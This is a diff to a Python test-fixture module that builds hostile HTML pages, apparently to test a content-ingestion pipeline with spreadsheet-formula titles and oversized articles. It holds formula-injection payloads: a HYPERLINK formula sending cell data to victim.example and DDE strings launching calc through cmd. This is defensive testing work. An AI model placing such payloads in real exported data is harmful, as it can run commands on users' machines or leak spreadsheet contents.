@@ -110,19 +110,17 @@ def mail_header_title() -> HostilePage:
     return HostilePage("mail-header-title.html", page(title=title), ends(PUBLISHED))
 
 
-def formula_title(formula: str, name: str) -> HostilePage:
-    """A title that a spreadsheet would run."""
-    return HostilePage(f"formula-{name}.html", page(title=escape(formula)), ends(PUBLISHED))
+FORMULAS = (
+    '=HYPERLINK("https://victim.example/?"&A1,"Harbour counts again")',
+    "+SUM(1,1)*cmd|' /C calc'!A0 and other harbour figures",
+    "-2+3+cmd|' /C calc'!A0 boats counted",
+    "@SUM(1+1)*2 boats seen at the inlet",
+)
 
 
 def formula_titles() -> list[HostilePage]:
-    formulas = {
-        "equals": '=HYPERLINK("https://victim.example/?"&A1,"Harbour counts again")',
-        "plus": "+SUM(1,1)*cmd|' /C calc'!A0 and other harbour figures",
-        "minus": "-2+3+cmd|' /C calc'!A0 boats counted",
-        "at": "@SUM(1+1)*2 boats seen at the inlet",
-    }
-    return [formula_title(formula, name) for name, formula in formulas.items()]
+    """Titles that a spreadsheet would run; they start with =, +, - and @."""
+    return [HostilePage(f"formula-{at}.html", page(title=escape(formula)), ends(PUBLISHED)) for at, formula in enumerate(FORMULAS)]
 
 
 def markup_title() -> HostilePage:
@@ -131,14 +129,14 @@ def markup_title() -> HostilePage:
 
 def beyond_the_item_limit() -> HostilePage:
     """120,000 words: more than a queue's message or a table's item holds."""
-    choose = random.Random(4)  # noqa: S311  (no secret: the same words each time)
+    choose = random.Random(4)
     sentences = (f"{' '.join(choose.choices(WORDS, k=12)).capitalize()}." for _ in range(10_000))
     article = "".join(f"<p>{' '.join(group)}</p>\n" for group in zip(*[sentences] * 5, strict=True))
     return HostilePage("beyond-the-item-limit.html", page(article=article), ends(PUBLISHED))
 
 
 def one_huge_paragraph() -> HostilePage:
-    choose = random.Random(5)  # noqa: S311  (no secret: the same words each time)
+    choose = random.Random(5)
     return HostilePage(
         "one-huge-paragraph.html", page(article=f"<p>{' '.join(choose.choices(WORDS, k=1_500_000))}</p>"), ends(PUBLISHED, "too-complex")
     )
